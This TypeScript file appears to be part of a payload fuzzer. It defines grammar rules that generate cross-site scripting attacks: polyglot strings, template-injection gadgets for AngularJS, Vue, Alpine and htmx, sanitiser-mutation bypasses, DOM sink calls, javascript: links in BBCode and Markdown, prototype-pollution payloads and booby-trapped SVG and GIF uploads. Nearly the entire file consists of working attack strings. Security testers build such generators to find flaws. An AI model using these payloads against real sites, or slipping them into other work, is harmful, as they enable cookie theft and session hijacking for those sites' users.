/** Polyglots, framework gadgets, sanitiser bypasses, DOM sources: XSS that fits no simple production. */
import { lines, type Rules } from "../lib/grammar.ts";

export const XSS_SPECIALS: Rules = {
  special: [
    ["«polyglot»", 3],
    ["«gadget»", 7],
    ["«mutation»", 3],
    ["«sink»", 5],
    ["«bbcode»", 1],
    ["«pollution»", 1],
    ["«upload»", 1],
  ],
  polyglot: lines`
    jaVasCript:/*-/*«bt»/*\«bt»/*'/*"/**/(/* */on«error|click|load|mouseover»=«js» )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\x3csVg/<sVg/oNloAd=«js»//>\x3e
    ">><marquee><img src=x onerror=«pop»(«int»)></marquee>"></plaintext\></|\><plaintext/onmouseover=«pop»(«int»)>
    ';«js»//';«js»//";«js»//";«js»//--></SCRIPT>">'><SCRIPT>«js»</SCRIPT>
    " onclick=«js»//<button ' onclick=«js»//> */ «js»//
    '">><«script»>«js»</«script»>
    <!--<img src="--><img src=x onerror=«js»//">
    javascript://'/</title></style></textarea></script>--><p" onclick=«js»//>*/«js»/*
    javascript:"/*'/*«bt»/*--></noscript></title></textarea></style></template></noembed></script><html \" onmouseover=/*&lt;svg/*/onload=«js»//>
    </«title|script|style|textarea»>«'|"|»><«tag»/«event»=«js»//
    «'|"|»--></«style|script»></«script|style»><«script»>«js»</«script»>
    '"()&%<«rnd»><ScRiPt >«pop»(«int»)</ScRiPt>
    «rnd»'"()&%<acx><ScRiPt >«rndmix»(«int»)</ScRiPt>
    {{«int»*«int»}}'"><«script»>«js»</«script»>\${«int»*«int»}
    */alert(«int»)/*«'|"»-alert(«int»)-«'|"»
    javascript:«bt»//"//\"//</title></textarea></style></noscript></noembed></script></template>&lt;svg/onload='/*--><html */ onmouseover=«js»//'>«bt»`,
  gadget: lines`
    {{constructor.constructor('«js»')()}}
    {{$on.constructor('«js»')()}}
    {{'a'.constructor.prototype.charAt=[].join;$eval('x=«js»')}}
    {{x={'y':''.constructor.prototype};x['y'].charAt=[].join;$eval('x=«js»')}}
    {{toString.constructor.prototype.toString=toString.constructor.prototype.call;["a","«js»"].sort(toString.constructor)}}
    {{a='constructor';b={};a.sub.call.call(b[a].getOwnPropertyDescriptor(b[a].getPrototypeOf(a.sub),a).value,0,'«js»')()}}
    {{_openBlock.constructor('«js»')()}}
    {{_c.constructor('«js»')()}}
    {{[].pop.constructor('«js»')()}}
    {{$eval.constructor('«js»')()}}
    [[constructor.constructor('«js»')()]]
    {{#with "constructor"}}{{#with split as |a|}}{{pop (push "«js»")}}{{/with}}{{/with}}
    <div ng-app ng-csp«|=""» ng-«click|mouseover|focus|init»="$event.view.«pop»(«int»)">
    <«tag» ng-«init|bind-html|click|include|repeat|focus»=«qq»«js»«qq»>
    <«div|input|p» ng-app>{{constructor.constructor("«js»")()}}
    <«div|x|p» v-«html|on:click|if|bind:a|show|for»=«qq»_c.constructor«bt»«pop»(«int»)«bt»()«qq»>
    <div @«click|mouseover|focus»="$emit.constructor«bt»«pop»(«int»)«bt»()">
    <div data-bind="html: «js»"></div>
    <div x-«data|init|on:click|html»="«js»">
    <div hx-«on:click|get|trigger»="«js»">
    <div data-toggle=tooltip data-html=true title='<script>«js»</script>'>
    <button data-toggle="collapse" data-parent="<img src=x onerror=«js»>">
    <div data-role=popup id='--><script>«js»</script>'></div>
    <amp-«pixel|img|iframe» src=«qq»«url»«qq»></amp-img>
    <template is=dom-bind><div>[[«js»]]</div></template>
    <aura:«component|attribute» name=«rnd»>
    {"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=«js»>"}}
    <math><maction actiontype="statusline#" xlink:href="javascript:«js»">«rnd»</maction></math>
    <link rel=import href=«jsurl»>
    $("«rnd»").html("<img src=x onerror=«js»>")
    <noscript><p title="</noscript><img src=x onerror=«js»>">`,
  mutation: lines`
    <«form|math|svg»><«math|mtext|style»><«mtext|table|mglyph»></form><form><mglyph><style></math><img src onerror=«js»>
    <svg></p><style><a id="</style><img src=1 onerror=«js»>">
    <listing>&lt;img src=x onerror=«js»&gt;</listing>
    <noscript><style></noscript><img src=x onerror=«js»>
    <math><mi//xlink:href="data:x,<script>«js»</script>">
    <svg><![CDATA[><image xlink:href="]]><img src=xx:x onerror=«js»//"></svg>
    <style><!--</style><script>«js»//--></script>
    <!--[if «gte IE 4|IE|lt IE 9»]><script>«js»</script><![endif]-->
    <!--[if]><script>«js»</script -->
    <![<!--]]<script>«js»//--></script>
    <comment><img src="</comment><img src=x onerror=«js»)//">
    <% <script>«js»</script> %>
    <img src=«bt»x«bt» onerror=«js» «bt»
    <input type="text" value=«bt»«bt»<div/onmouseover='«js»'>«rnd»</div>
    <a href="\x«hex2»javascript:javascript:«js»" id="fuzzelement«int»">test</a>
    <a href="java\x«hex2»script:«js»" id="fuzz«int»">«rnd»</a>
    "«bt»'><script>\x«hex2»javascript:«js»</script>
    <«img|div|script» \x«hex2»src=x onerror="«js»">
    <img src=x\x«hex2»onerror="javascript:«js»">
    <«svg|img»\x«hex2»onload=«js»>
    ABC<div style="x\x3Aexpression\x«hex2»(javascript:«js»)">DEF
    <«a|img»/«rnd»=\"«rnd»\"/«event»='«js»'>
    <x/«rnd»="«rnd»"«event»=«js»>
    <?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">«js»</x:script>
    <d3"<"/«event»="1>[«js»]"<">z
    <w="/x="y>"/«event»=«bt»<«pop»«bt»«bt»>z
    <iframe %00 src="&Tab;javascript:«js»&Tab;"%00>
    <svg><style>{font-family&colon;'<iframe/onload=«js»>'
    <meta/content="0;url=data:text/html;base64,«base64»"http-equiv=refresh>
    <a/href[\0C]=ja&Tab;vasc&Tab;ript&colon;«js»>«rnd»</a>
    <!DOCTYPE html><html><body><script>«js»</script></body></html>
    <html><head><script>«js»</script></head></html>`,
  sink: lines`
    document.«cookie|domain|write|URL|referrer|location|documentElement|body.innerHTML|forms»
    document.write("«rnd»")
    document«['cookie']|["cookie"]|.getElementsByTagName('«rnd»')|.implementation.createHTMLDocument»
    window.«location|name|open|onerror»«=«q»«url»«q»|»
    «self|this|top|parent|window|document|location|frames»«[«q»«rnd»«q»]|["«rnd»"]»
    «v=rnd»=document.cookie
    .«innerHTML|outerHTML|insertAdjacentHTML|cookie|parentnode|createElement|appendChild|execCommand|addEventListener»«=«rnd»|(«rnd»)»
    «rnd».addEventListener('«rnd»',«pop»)
    «eval|alert|prompt|confirm|setTimeout|setInterval|Function|execScript|msgbox»(«arg»)
    «pop»(«arg»)
    «pop»(«arg»);//
    «pop»«bt»«arg»«bt»
    String.fromCharCode(«codes»)
    unescape(«q»%«hex2»%«hex2»%«hex2»«q»)
    atob(«q»«base64»«q»)
    var «v=rnd»=«arg»;«js»
    function(){«js»}
    new Function(«q»«js»«q»)()
    #<script>«js»</script>
    #<img src=x onerror=«js»>
    @import«_|»«'|"»«jsurl»«'|"»
    -moz-binding: url(«jsurl»)
    url(javascript:«js»)
    expression(«js»)
    src=javascript:«js»
    behaviour: url(«jsurl»)
    [«q»«rnd»«q»][«q»constructor«q»]
    «rnd»[«q»constructor«q»][«q»constructor«q»](«code»)()
    \u«hex4»\u«hex4»\u«hex4»\u«hex4»
    &#«int»;&#«int»;&#«int»;&#«int»;«js»
    &#x«hex2»&#x«hex2»&#x«hex2»&#x«hex2»
    +ADw-«rnd»+AD4-«js»+ADw-/«rnd»+AD4-`,
  bbcode: lines`
    [«url|img|color|size|email»=javascript:«js»]«rnd»[/url]
    [url=«url» «event»=«js»]«rnd»[/url]
    [«rnd»](javascript:«js»)
    [«rnd»](data:text/html;base64,«base64»)
    ![«rnd»](«url»"onerror="«js»)
    ![«rnd»](javascript:«js»)
    [«rnd»]: (javascript:«js»)
    <javascript:«js»>
    [a](j a v a s c r i p t:«js»)
    ![a]("onerror="«js»)
    [[«rnd»|javascript:«js»]]`,
  pollution: lines`
    __proto__[«innerHTML|src|srcdoc|onerror|html|template|transport_url|hitCallback|sourceURL|«rnd»»]=«js»
    constructor[prototype][«rnd»]=«js»
    __proto__.«innerHTML|src|«rnd»»=<img/src/onerror=«js»>
    {"__proto__":{"«innerHTML|«rnd»»":"«js»"}}`,
  upload: lines`
    <svg xmlns="http://www.w3.org/2000/svg" onload="«js»"/>
    <?xml version="1.0" standalone="no"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg><script>«js»</script></svg>
    GIF89a/*«rnd»*/=«int»;«js»//
    <svg version="1.1" baseProfile="full"><rect width="«int»" height="«int»"/><script type="text/javascript">«js»;</script></svg>
    "><img src=x onerror=«js»>.«png|jpg|gif|svg»
    «rnd»"><svg onload=«js»>.«png|jpg»`,
};
